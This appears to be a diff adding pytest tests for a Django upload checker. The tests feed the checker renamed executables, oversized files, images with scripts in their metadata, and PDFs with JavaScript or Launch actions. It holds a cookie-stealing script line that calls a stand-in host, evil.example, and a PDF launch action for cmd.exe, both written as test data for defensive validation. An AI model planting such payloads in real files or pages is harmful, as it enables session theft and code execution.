@@ -1,0 +1,87 @@
+"""Hostile uploads, through the one checker every upload in Jalur goes through (documents,
+checklist items, complaint evidence, agreements): a renamed executable, a huge file, an image with a
+script in its metadata, a PDF with JavaScript."""
+
+import io
+import zlib
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.core.files.uploadedfile import SimpleUploadedFile
+from PIL import Image, PngImagePlugin
+
+from jalur.candidates.uploads import document_file_check
+
+SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
+
+
+def _upload(content: bytes, name: str) -> SimpleUploadedFile:
+    return SimpleUploadedFile(name, content)
+
+
+def test_a_windows_program_renamed_to_a_photo_is_refused():
+    with pytest.raises(ValidationError) as error:
+        document_file_check(_upload(b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, "ktp.jpg"))
+    assert "PDF, JPG atau PNG" in str(error.value)
+
+
+def test_a_linux_program_renamed_to_a_pdf_is_refused():
+    with pytest.raises(ValidationError):
+        document_file_check(_upload(b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "ijazah.pdf"))
+
+
+def test_a_huge_file_is_refused_before_it_is_read_whole(settings):
+    settings.JALUR_MAX_UPLOAD_BYTES = 5 * 1024 * 1024
+    big = _upload(b"%PDF-1.4\n" + b"0" * (6 * 1024 * 1024), "besar.pdf")
+    with pytest.raises(ValidationError) as error:
+        document_file_check(big)
+    assert "terlalu besar" in str(error.value)
+
+
+def test_a_png_with_a_script_in_its_text_chunk_is_stored_without_it():
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Comment", SCRIPT.decode())
+    buffer = io.BytesIO()
+    Image.new("RGB", (120, 80), (10, 20, 30)).save(buffer, format="PNG", pnginfo=info)
+    assert SCRIPT in buffer.getvalue()
+    checked = document_file_check(_upload(buffer.getvalue(), "foto.png"))
+    assert checked.content_type == "image/png"
+    assert b"<script" not in checked.content and b"evil.example" not in checked.content
+
+
+def test_a_jpeg_with_a_script_in_its_exif_and_comment_is_stored_without_it():
+    exif = Image.Exif()
+    exif[0x010E] = SCRIPT.decode()  # ImageDescription
+    buffer = io.BytesIO()
+    Image.new("RGB", (120, 80), (200, 180, 160)).save(
+        buffer, format="JPEG", exif=exif.tobytes(), comment=SCRIPT
+    )
+    assert SCRIPT in buffer.getvalue()
+    checked = document_file_check(_upload(buffer.getvalue(), "foto.jpg"))
+    assert b"<script" not in checked.content
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
+        b"1 0 obj<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj\n",
+        b"1 0 obj<</OpenAction<</S/#4A#61vaScript/JS(x)>>>>endobj\n",  # name escapes
+    ],
+)
+def test_a_pdf_with_javascript_or_a_launch_action_is_refused(body):
+    with pytest.raises(ValidationError) as error:
+        document_file_check(_upload(b"%PDF-1.7\n" + body + b"trailer<<>>\n%%EOF\n", "surat.pdf"))
+    assert "JavaScript" in str(error.value)
+
+
+def test_javascript_hidden_in_a_compressed_stream_is_found():
+    hidden = zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
+    header = (
+        b"%PDF-1.7\n1 0 obj<</Length "
+        + str(len(hidden)).encode()
+        + b"/Filter/FlateDecode>>stream\n"
+    )
+    pdf = header + hidden + b"\nendstream\nendobj\n%%EOF\n"
+    with pytest.raises(ValidationError):
+        document_file_check(_upload(pdf, "surat.pdf"))
